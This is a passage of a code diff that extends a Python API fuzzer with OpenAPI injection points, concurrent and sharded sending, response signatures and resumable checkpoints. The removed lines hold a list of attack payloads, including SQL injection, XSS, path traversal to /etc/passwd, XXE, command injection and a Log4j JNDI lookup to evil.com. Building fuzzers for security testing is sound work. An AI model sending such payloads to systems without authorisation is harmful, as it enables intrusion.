+                raise ValueError(f"Only local $ref pointers are supported: {ref}")
+            node = self.spec
+            for part in ref[2:].split('/'):
+                node = node[part.replace('~1', '/').replace('~0', '~')]
+        return node
+
+    def sample(self, schema, depth=0):
+        """A plausible value for `schema`: example, default, first enum value or a typed placeholder"""
+        schema = self.resolve(schema or {})
+        for key in ('example', 'default'):
+            if key in schema:
+                return copy.deepcopy(schema[key])
+        if schema.get('enum'):
+            return schema['enum'][0]
+        kind = schema.get('type', 'object' if 'properties' in schema else 'string')
+        if depth >= self.MAX_DEPTH:
+            return None
+        if kind == 'object':
+            return {name: self.sample(prop, depth + 1) for name, prop in schema.get('properties', {}).items()}
+        if kind == 'array':
+            return [self.sample(schema.get('items'), depth + 1)]
+        return {'integer': 1, 'number': 1.0, 'boolean': True}.get(kind, 'test')
+
+    def leaves(self, schema, prefix=(), depth=0):
+        """Key paths of the scalar fields of a JSON body schema"""
+        schema = self.resolve(schema or {})
+        kind = schema.get('type', 'object' if 'properties' in schema else 'string')
+        if depth >= self.MAX_DEPTH:
+            return
+        if kind == 'object' and schema.get('properties'):
+            for name, prop in schema['properties'].items():
+                yield from self.leaves(prop, prefix + (name,), depth + 1)
+        elif kind == 'array':
+            yield from self.leaves(schema.get('items'), prefix + (0,), depth + 1)
+        elif kind != 'object':
+            yield prefix
+
+    def injection_points(self):
+        points = []
+        for path, item in self.spec.get('paths', {}).items():
+            item = self.resolve(item)
+            for method in self.METHODS:
+                operation = item.get(method)
+                if not operation:
+                    continue
+                # Operation-level parameters override path-level ones
+                parameters = {}
+                for parameter in item.get('parameters', []) + operation.get('parameters', []):
+                    parameter = self.resolve(parameter)
+                    parameters[(parameter['in'], parameter['name'])] = parameter
+
+                values = {'path': {}, 'query': {}, 'header': {}}
+                body_schema = None
+                for (location, name), parameter in parameters.items():
+                    if location in values:
+                        # Only JSON body fields keep typed samples
+                        values[location][name] = parameter_text(self.sample(parameter.get('schema', parameter)))
+                    elif location == 'body':
+                        body_schema = parameter.get('schema')
+                content = self.resolve(operation.get('requestBody', {})).get('content', {})
+                if 'application/json' in content:
+                    body_schema = content['application/json'].get('schema')
+                body = self.sample(body_schema) if body_schema else None
+
+                url = self.base_url.rstrip('/') + path
+                common = {'path_params': values['path'], 'query': values['query'],
+                          'headers': values['header'], 'body': body}
+                for location, names in values.items():
+                    for name in names:
+                        points.append(InjectionPoint(method, url, location, name, **common))
+                if body_schema:
+                    for keys in self.leaves(body_schema):
+                        points.append(InjectionPoint(method, url, 'body', keys, **common))
+        return points
+
+
+class FairScheduler:
+    """
+    Hands work items to the senders, round-robin over injection points, and
+    never lets one point hold more than `per_target` requests in flight. A
+    slow endpoint therefore only delays its own items while the others keep
+    going, up to `lookahead` buffered items ahead of it. Items keep a sequence
+    number in stream order so results can be re-ordered afterwards.
+    """
+
+    def __init__(self, items, per_target, lookahead):
+        self.items = iter(items)
+        self.per_target = per_target
+        self.lookahead = lookahead
+        self.queues = {}
+        self.in_flight = {}
+        self.buffered = 0
+        self.seq = 0
+        self.exhausted = False
+        self.cond = asyncio.Condition()
+
+    def pull(self):
+        try:
+            i, target, payload = next(self.items)
+        except StopIteration:
+            self.exhausted = True
+            return
+        self.queues.setdefault(target, deque()).append((self.seq, i, target, payload))
+        self.seq += 1
+        self.buffered += 1
+
+    def pick(self):
+        for target in list(self.queues):
+            pending = self.queues[target]
+            if pending and self.in_flight.get(target, 0) < self.per_target:
+                # Move this target to the back so the next pick starts after it
+                self.queues[target] = self.queues.pop(target)
+                self.in_flight[target] = self.in_flight.get(target, 0) + 1
+                self.buffered -= 1
+                return pending.popleft()
+        return None
+
+    async def get(self):
+        """Next (seq, index, target, payload) item, or None once everything was handed out"""
+        async with self.cond:
+            while True:
+                item = self.pick()
+                if item:
+                    return item
+                if not self.exhausted and self.buffered < self.lookahead:
+                    self.pull()
+                    continue
+                if self.exhausted and not self.buffered:
+                    return None
+                await self.cond.wait()
+
+    async def done(self, target):
+        async with self.cond:
+            self.in_flight[target] -= 1
+            self.cond.notify_all()
+
 
 class APIFuzzer:
-    def __init__(self, url, method='GET'):
+    CHUNK_SIZE = 64 * 1024
+
+    def __init__(self, url, method='GET', rate_controller=None, payloads=None, signatures=None,
+                 max_body=1024 * 1024, timeout=10, baseline_requests=10, latency_threshold=1.0, verbose=False,
+                 results_path=None, checkpoint_every=1000, targets=None):
         self.url = url
         self.method = method.upper()
+        self.targets = targets or [InjectionPoint.default(url, method)]
+        self.rate_controller = rate_controller
+        self.payloads = payloads or PayloadGenerator()
+        self.signatures = signatures or SignatureSet()
+        self.max_body = max_body
+        self.timeout = timeout
+        self.baseline_requests = baseline_requests
+        self.latency = LatencyTracker(latency_threshold)
+        self.clusters = ResponseClusters()
+        self.verbose = verbose
+        self.results = ResultsLog(results_path) if results_path else None
+        self.checkpoint_every = checkpoint_every
+        self.start_index = 0
         self.session = requests.Session()
-        self.session.timeout = 10
 
     def generate_fuzz_payloads(self):
-        """Generate fuzzing payloads"""
-        payloads = [
-            '',  # Empty
-            'A' * 1000,  # Long string
-            'A' * 10000,  # Very long
-            "' OR '1'='1",  # SQL injection
-            "<script>alert('xss')</script>",  # XSS
-            "../../../../etc/passwd",  # Path traversal
-            '\x00\x01\x02\x03',  # Binary
-            '{"malformed": json}',  # Malformed JSON
-            '|| echo vulnerable ||',  # Command injection
-            'sleep(10)',  # Time-based
-            'exists(/)',  # XPath injection
-            '<!ENTITY xxe SYSTEM "file:///etc/passwd">',  # XXE
-            'undefined',  # JavaScript injection
-            '../../../windows/system32/drivers/etc/hosts',  # Windows path
-            '%00%n%s%p%x%d',  # Format string
-            'SELECT * FROM users',  # Direct SQL
-            '${jndi:ldap://evil.com}',  # Log4j
-            '..\0..\0..\0..\0windows\0system.ini',  # Null byte injection
-            '💣🔥',  # Unicode
-            '0xCAFEBABE',  # Hex
-            'NaN',  # Special floats
-            '-Infinity',
-            '91763e3f5d4c4b4b9d9ddf7e',  # Random UUID-like
-        ]
-
-        # Add random strings
-        for _ in range(10):
-            length = random.randint(1, 500)
-            payload = ''.join(random.choices(string.ascii_letters + string.digits + string.punctuation, k=length))
-            payloads.append(payload)
-
-        return payloads
-
-    def send_request(self, payload):
-        """Send request with payload"""
-        try:
-            headers = {'Content-Type': 'application/json', 'User-Agent': 'CustomAPI Fuzzer/1.0'}
-
-            if self.method == 'GET':
-                params = {'input': payload}
-                resp = self.session.get(self.url, params=params, headers=headers)
-            elif self.method in ['POST', 'PUT', 'PATCH']:
-                data = {'input': payload}
-                if self.method == 'POST':
-                    resp = self.session.post(self.url, json=data, headers=headers)
-                elif self.method == 'PUT':
-                    resp = self.session.put(self.url, json=data, headers=headers)
-                elif self.method == 'PATCH':
-                    resp = self.session.patch(self.url, json=data, headers=headers)
+        """Generate fuzzing payloads lazily"""
+        return iter(self.payloads)
+
+    def work_items(self):
+        """(index, target number, payload) for every payload at every injection point, interleaved"""
+        count = len(self.targets)
+        index = self.payloads.start * count
+        for payload in self.generate_fuzz_payloads():
+            for target in range(count):
+                if index >= self.start_index:
+                    yield index, target, payload
+                index += 1
+
+    def send_request(self, payload, target=None):
+        """Send request with payload, paced by the rate controller if any"""
+        target = target or self.targets[0]
+        if self.rate_controller:
+            self.rate_controller.acquire(target.host)
+        start = time.perf_counter()
+
+        resp = self._send(payload, target)
+        elapsed = time.perf_counter() - start
+
+        if isinstance(resp, requests.Response):
+            resp.latency = elapsed
+        if self.rate_controller:
+            if isinstance(resp, requests.Response):
+                self.rate_controller.record(target.host, resp.status_code, elapsed, retry_after_seconds(resp))
             else:
-                print(f"Unsupported method: {self.method}")
-                return None
+                self.rate_controller.record(target.host, None, elapsed)
+        return resp
 
+    def _send(self, payload, target):
+        try:
+            resp = self.session.request(stream=True, timeout=self.timeout, **target.build(payload))
+            resp.body_scan = self.read_body(resp, payload)
             return resp
 
         except requests.exceptions.RequestException as e:
@@ -82,11 +1201,78 @@ class APIFuzzer:
         except Exception as e:
             return f"Error: {e}"
 
-    def analyze_response(self, response, payload):
+    def reflection_signatures(self, payload):
+        if payload and len(payload) > 3:
+            return [Signature('reflection', payload, 'Input Reflection Detected')]
+        return []
+
+    def read_body(self, resp, payload):
+        """
+        Stream the body through the signature scanner, reading at most
+        `max_body` bytes. The response is always closed: a fully read one has
+        already gone back to the pool, and a truncated or failed one is
+        dropped instead of drained.
+        """
+        scanner = self.signatures.scanner(self.reflection_signatures(payload))
+        body_hash = BodyHash(payload)
+        read = 0
+        truncated = False
+        try:
+            for chunk in resp.iter_content(chunk_size=self.CHUNK_SIZE):
+                if read + len(chunk) > self.max_body:
+                    chunk = chunk[:self.max_body - read]
+                    truncated = True
+                scanner.feed(chunk)
+                body_hash.feed(chunk)
+                read += len(chunk)
+                if truncated:
+                    break
+        finally:
+            resp.close()
+
+        content_length = read
+        length_source = 'body'
+        # Content-Length counts encoded bytes, so it only gives the true length of unencoded bodies
+        encoding = resp.headers.get('Content-Encoding', 'identity').strip().lower()
+        if truncated and encoding == 'identity':
+            try:
+                content_length = int(resp.headers['Content-Length'])
+                length_source = 'header'
+            except (KeyError, ValueError):
+                pass
+        return BodyScan(scanner.matches(), content_length, truncated, body_hash.hexdigest(), body_hash.reflected,
+                        length_source)
+
+    VOLATILE_HEADERS = {'date', 'content-length', 'transfer-encoding', 'etag', 'last-modified', 'expires', 'age'}
+    ERROR_NOISE = re.compile(r"url: \S+|\d+")
+
+    def body_scan(self, response, payload):
+        """The streamed BodyScan of a response, or one computed from its content"""
+        scan = getattr(response, 'body_scan', None)
+        if scan is None:
+            body = response.content
+            body_hash = BodyHash(payload)
+            body_hash.feed(body)
+            scan = BodyScan(self.signatures.scan(body, self.reflection_signatures(payload)), len(body), False,
+                            body_hash.hexdigest(), body_hash.reflected)
+        return scan
+
+    def fingerprint(self, response, payload, target=None):
+        """Compact response fingerprint: injection point, status, length bucket, normalized body hash and header names"""
+        target = target or self.targets[0]
+        if not isinstance(response, requests.Response):
+            return (target.key, 'ERROR', self.ERROR_NOISE.sub('', str(response)))
+        scan = self.body_scan(response, payload)
+        headers = tuple(sorted(name.lower() for name in response.headers
+                               if name.lower() not in self.VOLATILE_HEADERS))
+        length_bucket = max(0, scan.content_length - scan.reflected).bit_length()
+        return (target.key, response.status_code, length_bucket, scan.body_hash, headers)
+
+    def analyze_response(self, response, payload, target=None):
         """Analyze if response indicates vulnerability/error"""
+        target = target or self.targets[0]
         if isinstance(response, requests.Response):
             status = response.status_code
-            content = response.text.lower()
 
             # Check for errors
             errors = []
@@ -98,65 +1284,433 @@ class APIFuzzer:
             elif status not in [200, 201, 302, 401, 403, 404]:
                 errors.append(f"Unusual Status: {status}")
 
-            # Check response content for signs
-            if any(word in content for word in ['error', 'exception', 'stack trace', 'fatal', 'traceback', 'sql', 'syntax']):
-                if 'sql' in content:
-                    errors.append("Possible SQL Error")
-                if 'stack' in content:
-                    errors.append("Stack Trace Leak")
+            # Check response content and reflection against the signature set
+            scan = self.body_scan(response, payload)
+            errors.extend(self.signatures.findings(scan.matches))
 
-            # Check if payload appears in response (reflection)
-            if payload and len(payload) > 3 and payload.lower() in content:
-                errors.append("Input Reflection Detected")
+            # Check for time-based behaviour against the endpoint's latency baseline
+            latency = getattr(response, 'latency', None)
+            if latency is not None:
+                anomaly = self.latency.record(target.endpoint, latency)
+                if anomaly:
+                    errors.append(anomaly)
 
             return {
                 'status': status,
                 'errors': errors,
-                'content_length': len(response.text) if hasattr(response, 'text') else 0
+                'matches': [(signature.name, offset) for signature, offset in scan.matches],
+                'content_length': scan.content_length,
+                'length_source': scan.length_source,
+                'truncated': scan.truncated,
+                'latency': latency,
+                'target': target.key,
+                'fingerprint': self.fingerprint(response, payload, target)
             }
 
         else:
-            return {'status': 'ERROR', 'errors': [str(response)], 'content_length': 0}
+            return {'status': 'ERROR', 'errors': [str(response)], 'content_length': 0, 'truncated': False,
+                    'latency': None, 'target': target.key, 'fingerprint': self.fingerprint(response, payload, target)}
+
+    def configure_pool(self, size):
+        """Size the keep-alive connection pools for `size` requests in flight"""
+        hosts = len({target.host for target in self.targets})
+        adapter = HTTPAdapter(pool_connections=hosts, pool_maxsize=size)
+        self.session.mount('http://', adapter)
+        self.session.mount('https://', adapter)
+
+    def report(self, index, total, payload, analysis, kind):
+        """Print the analysis of one payload; unless verbose, only new response clusters are printed"""
+        if kind != ResponseClusters.NEW and not self.verbose:
+            return
+
+        progress = f"{index+1}/{total}" if total else f"{index+1}"
+        if len(self.targets) > 1:
+            progress += f" {analysis['target']}"
+        if kind == ResponseClusters.NEW:
+            print(f"[{progress}] New behaviour (cluster #{self.clusters.cluster_id(analysis)}): {repr(payload[:50])}")
+        else:
+            print(f"[{progress}] Testing payload: {repr(payload[:50])}")
+
+        if analysis['errors']:
+            print(f"  🚨 POTENTIAL VULNERABILITY: {', '.join(analysis['errors'])}")
+            truncated = ""
+            if analysis.get('truncated'):
+                exact = analysis.get('length_source') == 'header'
+                truncated = " (truncated, announced)" if exact else " (truncated, at least)"
+            print(f"  Status: {analysis['status']}, Content Length: {analysis['content_length']}{truncated}")
+            if analysis.get('matches'):
+                print(f"  Matched: {', '.join(f'{name}@{offset}' for name, offset in analysis['matches'])}")
+        else:
+            print(f"  ✅ Normal response (Status: {analysis['status']})")
+
+    def run(self, items, delay, concurrency, emit):
+        """
+        Send (index, target number, payload) items and call emit(index,
+        payload, analysis) in input order. With a `delay`, requests start at
+        most once per `delay` seconds however many senders there are.
+        """
+        pacer = TokenBucket(1 / delay, burst=1) if delay else None
+        if concurrency <= 1:
+            for i, t, payload in items:
+                target = self.targets[t]
+                if pacer:
+                    pacer.acquire()  # Rate limiting
+                response = self.send_request(payload, target)
+                emit(i, payload, self.analyze_response(response, payload, target))
+        else:
+            self.configure_pool(concurrency)
+            asyncio.run(self.fuzz_async(items, pacer, concurrency, emit))
+
+    def collect_baseline(self):
+        """Send benign requests to establish each injection point's latency baseline and response fingerprints"""
+        for target in self.targets:
+            for i in range(self.baseline_requests):
+                payload = f"baseline{i}"
+                response = self.send_request(payload, target)
+                if isinstance(response, requests.Response):
+                    self.latency.record_baseline(target.endpoint, response.latency)
+                    self.clusters.add_baseline(self.fingerprint(response, payload, target))
 
-    def fuzz(self, delay=0.1):
+    def record(self, index, payload, analysis, kind):
+        """Append one result to the results log"""
+        self.results.append({
+            'index': index,
+            'target': analysis['target'],
+            'payload': payload,
+            'status': analysis['status'],
+            'errors': analysis['errors'],
+            'matches': analysis.get('matches', []),
+            'content_length': analysis['content_length'],
+            'length_source': analysis.get('length_source', 'body'),
+            'truncated': analysis['truncated'],
+            'latency': analysis['latency'],
+            'kind': kind,
+            'cluster': None if kind == ResponseClusters.BASELINE else self.clusters.cluster_id(analysis),
+        })
+
+    def checkpoint(self, next_index, complete=False):
+        """Persist everything needed to continue the campaign at work item `next_index`"""
+        count = len(self.targets)
+        rng_state = self.payloads.snapshot(next_index // count) if next_index % count == 0 else None
+        self.results.write_checkpoint({
+            'url': self.url,
+            'method': self.method,
+            'targets': [target.key for target in self.targets],
+            'seed': self.payloads.seed,
+            'count': self.payloads.count,
+            'corpus_files': self.payloads.corpus_files,
+            'next_index': next_index,
+            'rng_state': rng_state,
+            'complete': complete,
+            'clusters': self.clusters.state(),
+            'latency': self.latency.state(),
+        })
+
+    def restore(self, state):
+        """Continue from a checkpoint written by checkpoint()"""
+        if state['url'] != self.url or state['method'] != self.method:
+            raise ValueError(f"Checkpoint belongs to {state['method']} {state['url']}")
+        if state.get('targets', [self.targets[0].key]) != [target.key for target in self.targets]:
+            raise ValueError("Checkpoint was written for a different set of injection points")
+        self.payloads.seed = state['seed']
+        self.payloads.count = state['count']
+        self.payloads.corpus_files = state['corpus_files']
+        # Checkpoints are only written on payload boundaries
+        self.payloads.resume_at(state['next_index'] // len(self.targets), tuplify(state['rng_state']))
+        self.start_index = state['next_index']
+        self.clusters.restore(state['clusters'])
+        self.latency.restore(state['latency'])
+
+    def fuzz(self, delay=0.1, concurrency=1, workers=1, resume=False):
         """Run fuzzing"""
-        print(f"Starting fuzzing campaign against {self.url} with method {self.method}")
+        if len(self.targets) > 1:
+            print(f"Starting fuzzing campaign against {len(self.targets)} injection points on {self.url}")
+        else:
+            print(f"Starting fuzzing campaign against {self.url} with method {self.method}")
         print("-" * 60)
 
-        payloads = self.generate_fuzz_payloads()
+        if self.results:
+            self.payloads.snapshot_every = self.checkpoint_every
+            if resume:
+                state = self.results.read_checkpoint()
+                self.restore(state)
+                self.results.open(truncate_to=state['log_offset'])
+                print(f"Resuming at request {state['next_index'] + 1}")
+            else:
+                if self.payloads.seed is None:
+                    # A resumed run must regenerate the same stream
+                    self.payloads.seed = random.randrange(2 ** 32)
+                self.results.open()
 
-        for i, payload in enumerate(payloads):
-            print(f"[{i+1}/{len(payloads)}] Testing payload: {repr(payload[:50])}")
+        total = self.payloads.total()
+        if total is not None:
+            total *= len(self.targets)
+        last = [self.start_index - 1]
+        checkpoint_every = self.checkpoint_every * len(self.targets)
 
-            response = self.send_request(payload)
-            analysis = self.analyze_response(response, payload)
+        def emit(i, payload, analysis):
+            kind = self.clusters.classify(i, payload, analysis)
+            self.report(i, total, payload, analysis, kind)
+            if self.results:
+                self.record(i, payload, analysis, kind)
+                if (i + 1) % checkpoint_every == 0:
+                    self.checkpoint(i + 1)
+            last[0] = i
 
-            if analysis['errors']:
-                print(f"  🚨 POTENTIAL VULNERABILITY: {', '.join(analysis['errors'])}")
-                print(f"  Status: {analysis['status']}, Content Length: {analysis['content_length']}")
+        if not resume:
+            self.collect_baseline()
+            if self.results:
+                self.checkpoint(self.start_index)
+        try:
+            if workers <= 1:
+                self.run(self.work_items(), delay, concurrency, emit)
             else:
-                print(f"  ✅ Normal response (Status: {analysis['status']})")
-
-            time.sleep(delay)  # Rate limiting
+                self.fuzz_sharded(workers, delay, concurrency, emit)
+            if self.results:
+                self.checkpoint(last[0] + 1, complete=True)
+        finally:
+            if self.results:
+                self.results.close()
 
         print("-" * 60)
         print("Fuzzing complete.")
+        print("Response clusters:")
+        for line in self.clusters.summary():
+            print(f"  {line}")
+        for line in self.latency.summary():
+            print(f"Latency {line}")
+        if self.rate_controller and workers <= 1:
+            for host, rate in self.rate_controller.rates().items():
+                print(f"Final send rate for {host}: {rate:.1f} req/s")
+
+    async def fuzz_async(self, items, pacer, concurrency, emit):
+        """
+        Pipelined engine: payload generation -> fair scheduler -> `concurrency`
+        senders -> analysis. Results are analyzed and emitted in input order,
+        so the output matches the sequential engine. All senders draw from the
+        one `pacer` bucket, if any.
+        """
+        loop = asyncio.get_running_loop()
+        executor = ThreadPoolExecutor(max_workers=concurrency)
+        # One slow injection point may hold at most ~2/N of the senders
+        per_target = min(concurrency, max(1, -(-2 * concurrency // len(self.targets))))
+        scheduler = FairScheduler(items, per_target, max(concurrency * 8, len(self.targets) * 4))
+        result_queue = asyncio.Queue(maxsize=concurrency * 2)
+
+        async def send():
+            while True:
+                item = await scheduler.get()
+                if item is None:
+                    await result_queue.put(None)
+                    return
+                seq, i, t, payload = item
+                target = self.targets[t]
+                if pacer:
+                    await loop.run_in_executor(executor, pacer.acquire)  # Rate limiting shared by the senders
+                response = await loop.run_in_executor(executor, self.send_request, payload, target)
+                await scheduler.done(t)
+                await result_queue.put((seq, i, target, payload, response))
+
+        async def analyze():
+            pending = {}
+            next_seq = 0
+            finished = 0
+            while finished < concurrency:
+                item = await result_queue.get()
+                if item is None:
+                    finished += 1
+                    continue
+                pending[item[0]] = item
+                while next_seq in pending:
+                    _, i, target, payload, response = pending.pop(next_seq)
+                    emit(i, payload, self.analyze_response(response, payload, target))
+                    next_seq += 1
+
+        try:
+            await asyncio.gather(analyze(), *(send() for _ in range(concurrency)))
+        finally:
+            executor.shutdown(wait=False)
+
+    def shard_options(self):
+        """Constructor arguments recreating this fuzzer in a worker process"""
+        return {
+            'url': self.url,
+            'method': self.method,
+            'targets': self.targets,
+            'payloads': self.payloads,
+            'signatures': self.signatures,
+            'max_body': self.max_body,
+            'timeout': self.timeout,
+            'baseline_requests': self.baseline_requests,
+            'latency_threshold': self.latency.threshold,
+            'verbose': self.verbose,
+        }
+
+    def fuzz_sharded(self, workers, delay, concurrency, emit):
+        """
+        Shard the work items round-robin by index across `workers`
+        processes, each with its own HTTP pool and rate controller share, and
+        merge their results back into stream order. Each worker holds a fixed
+        number of credits and spends one per result; the parent returns it once
+        the result is emitted, so a stalled shard makes the others wait instead
+        of filling the reorder buffer.
+        """
+        if self.payloads.seed is None:
+            # Every shard regenerates the stream, so they must agree on it
+            self.payloads.seed = random.randrange(2 ** 32)
+        rate_settings = self.rate_controller.shard_settings(workers) if self.rate_controller else None
+
+        # Advance a local copy of the stream alongside the merged results so
+        # checkpoints can capture the generator's RNG snapshots
+        tracking = iter(self.payloads) if self.results else None
+
+        ctx = multiprocessing.get_context()
+        results = ctx.Queue(maxsize=workers * concurrency * 4)
+        # Unemitted results per worker; item i belongs to worker i % workers
+        credits = [ctx.Semaphore(concurrency * 4) for _ in range(workers)]
+        procs = [ctx.Process(target=fuzz_shard, daemon=True,
+                             args=(self.shard_options(), self.start_index, self.latency, rate_settings,
+                                   shard, workers, delay, concurrency, results, credits[shard]))
+                 for shard in range(workers)]
+        for proc in procs:
+            proc.start()
+
+        pending = {}
+        next_index = self.start_index
+        count = len(self.targets)
+        finished = 0
+        try:
+            while finished < workers:
+                try:
+                    item = results.get(timeout=1)
+                except queue.Empty:
+                    if any(proc.exitcode not in (None, 0) for proc in procs):
+                        raise RuntimeError("A fuzzing worker process died")
+                    continue
+                if item is None:
+                    finished += 1
+                    continue
+                pending[item[0]] = item
+                while next_index in pending:
+                    if tracking and next_index % count == 0:
+                        next(tracking)
+                    i, payload, analysis = pending.pop(next_index)
+                    # Kept per result, so checkpoints include every sample emitted so far
+                    if analysis['latency'] is not None:
+                        self.latency.record_observed(self.targets[i % count].endpoint, analysis['latency'])
+                    emit(i, payload, analysis)
+                    credits[i % workers].release()
+                    next_index += 1
+        finally:
+            for proc in procs:
+                proc.join(timeout=1)
+                if proc.is_alive():
+                    proc.terminate()
+
+
+def fuzz_shard(options, start_index, latency, rate_settings, shard, workers, delay, concurrency, results, credits):
+    """
+    Worker process entry point: fuzz every `workers`-th work item starting at
+    index `shard`, judging timing against the parent's latency baseline.
+    Each result waits for one of `credits`, returned when the parent emits it.
+    """
+    controller = RateController(**rate_settings) if rate_settings else None
+    fuzzer = APIFuzzer(rate_controller=controller, **options)
+    fuzzer.latency = latency
+    fuzzer.start_index = start_index
+    items = itertools.islice(fuzzer.work_items(), (shard - start_index) % workers, None, workers)
+
+    def send(*result):
+        credits.acquire()
+        results.put(result)
+
+    # Each shard sends every `workers`-th request, so the campaign keeps one request per `delay`
+    fuzzer.run(items, delay * workers, concurrency, send)
+    results.put(None)
+
+def query_results(path, cluster=None):
+    """Print a summary of a results log, or the example records of one cluster"""
+    index = ResultsIndex(path).update()
+    if cluster is None:
+        for line in index.summary():
+            print(line)
+        return
+    for record in index.examples(cluster):
+        print(f"[{record['index'] + 1}] {repr(record['payload'][:50])}")
+        print(f"  Status: {record['status']}, Findings: {', '.join(record['errors']) or 'none'}")
 
 def main():
     parser = argparse.ArgumentParser(description='Custom API Fuzzer')
-    parser.add_argument('--url', required=True, help='Target API URL')
+    parser.add_argument('--url', help='Target API URL (base URL override with --openapi)')
+    parser.add_argument('--openapi', help='OpenAPI/Swagger JSON spec; fuzz every parameter of every operation')
     parser.add_argument('--method', default='GET', choices=['GET', 'POST', 'PUT', 'PATCH'], help='HTTP method')
-    parser.add_argument('--delay', type=float, default=0.1, help='Delay between requests in seconds')
+    parser.add_argument('--delay', type=float, help='Seconds between request starts across all senders and workers (disables adaptive rate control)')
+    parser.add_argument('--initial-rate', type=float, default=10.0, help='Adaptive rate control: starting rate in req/s')
+    parser.add_argument('--host-rate', type=float, help='Adaptive rate control: per-host cap in req/s')
+    parser.add_argument('--max-rate', type=float, default=1000.0, help='Adaptive rate control: hard ceiling in req/s')
+    parser.add_argument('--seed', type=int, help='Seed for deterministic payload generation')
+    parser.add_argument('--corpus', action='append', default=[], help='Seed corpus file, one payload per line (repeatable)')
+    parser.add_argument('--count', type=int, help='Total payloads to send; extra payloads are mutations of the seeds')
+    parser.add_argument('--signatures', help='JSON file with extra response signatures')
+    parser.add_argument('--max-body', type=int, default=1024 * 1024, help='Maximum response bytes read and scanned per request')
+    parser.add_argument('--timeout', type=float, default=10, help='Per-request timeout in seconds')
+    parser.add_argument('--baseline', type=int, default=10, help='Benign requests sent to establish the latency baseline')
+    parser.add_argument('--latency-threshold', type=float, default=1.0, help='Extra seconds over baseline p99 that flag a timing anomaly')
+    parser.add_argument('--verbose', action='store_true', help='Print every response, not only new behaviour clusters')
+    parser.add_argument('--concurrency', type=int, default=1, help='Requests kept in flight (1 = sequential)')
+    parser.add_argument('--workers', type=int, default=1, help='Worker processes sharing the campaign')
+    parser.add_argument('--results', help='Append-only JSONL results log, checkpointed for --resume')
+    parser.add_argument('--checkpoint-every', type=int, default=1000, help='Results between checkpoints')
+    parser.add_argument('--resume', action='store_true', help='Continue the campaign recorded in --results')
+    parser.add_argument('--query', metavar='LOG', help='Summarize a results log instead of fuzzing')
+    parser.add_argument('--cluster', type=int, help='With --query, print example records of this cluster')
 
     args = parser.parse_args()
 
+    if args.query:
+        query_results(args.query, args.cluster)
+        return
+
+    targets = None
+    if args.openapi:
+        spec = OpenAPISpec.from_file(args.openapi, args.url)
+        if not spec.base_url:
+            parser.error("The spec has no server URL; pass --url as the base URL")
+        targets = spec.injection_points()
+        if not targets:
+            parser.error(f"No operations found in {args.openapi}")
+        args.url = spec.base_url
+    elif not args.url:
+        parser.error("--url is required")
+
     # Validate URL
     parsed = urlparse(args.url)
     if not parsed.scheme or not parsed.netloc:
         parser.error("Invalid URL. Must include http:// or https://")
 
-    fuzzer = APIFuzzer(args.url, args.method)
-    fuzzer.fuzz(delay=args.delay)
+    if args.concurrency < 1:
+        parser.error("--concurrency must be at least 1")
+    if args.workers < 1:
+        parser.error("--workers must be at least 1")
+    if args.resume and not args.results:
+        parser.error("--resume requires --results")
+    if args.resume and not os.path.exists(args.results + '.checkpoint'):
+        parser.error(f"No checkpoint found for {args.results}")
+    if args.results and not args.resume and os.path.exists(args.results):
+        parser.error(f"{args.results} already exists; use --resume to continue it")
+
+    payloads = PayloadGenerator(seed=args.seed, corpus_files=args.corpus, count=args.count)
+    signatures = SignatureSet.from_file(args.signatures) if args.signatures else SignatureSet()
+    controller = None
+    if args.delay is None:
+        controller = RateController(args.initial_rate, args.max_rate, args.host_rate)
+
+    fuzzer = APIFuzzer(args.url, args.method, rate_controller=controller, payloads=payloads,
+                       signatures=signatures, max_body=args.max_body, timeout=args.timeout,
+                       baseline_requests=args.baseline, latency_threshold=args.latency_threshold,
+                       verbose=args.verbose, results_path=args.results, checkpoint_every=args.checkpoint_every,
+                       targets=targets)
+    fuzzer.fuzz(delay=args.delay or 0, concurrency=args.concurrency, workers=args.workers, resume=args.resume)
 
 if __name__ == '__main__':
     main()